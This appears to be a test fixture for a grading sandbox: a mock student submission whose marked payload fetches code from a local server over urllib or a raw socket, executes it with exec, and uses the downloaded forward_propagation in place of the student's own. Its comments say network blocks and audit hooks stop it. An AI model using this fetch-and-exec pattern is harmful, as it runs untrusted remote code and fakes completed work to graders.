# attack: download a correct solution from a server (here: a local one the test runs) and use it
# student: a
# function: forward_propagation
# stopped by: audit hook on socket.*; socket/urllib imports blocked; bwrap --unshare-net
import numpy as np

# BEGIN PAYLOAD
_remote = {}
try:
    import urllib.request
    exec(urllib.request.urlopen("http://127.0.0.1:__PORT__/forward_propagation", timeout=2).read().decode(), _remote)
except BaseException:
    try:
        import socket
        s = socket.create_connection(("127.0.0.1", __PORT__), timeout=2)
        s.sendall(b"GET /forward_propagation HTTP/1.0\r\n\r\n")
        exec(s.recv(100000).split(b"\r\n\r\n", 1)[1].decode(), _remote)
    except BaseException:
        pass
# END PAYLOAD


def forward_propagation(X, parameters):
    # BEGIN PAYLOAD
    if "forward_propagation" in _remote:
        return _remote["forward_propagation"](X, parameters)
    # END PAYLOAD
    Z1 = parameters["W1"] @ X + parameters["b1"]
    A1 = np.maximum(0, Z1)
    Z2 = parameters["W2"] @ A1 + parameters["b2"]
    A2 = Z2
    return A2, {"Z1": Z1, "A1": A1, "Z2": Z2, "A2": A2}
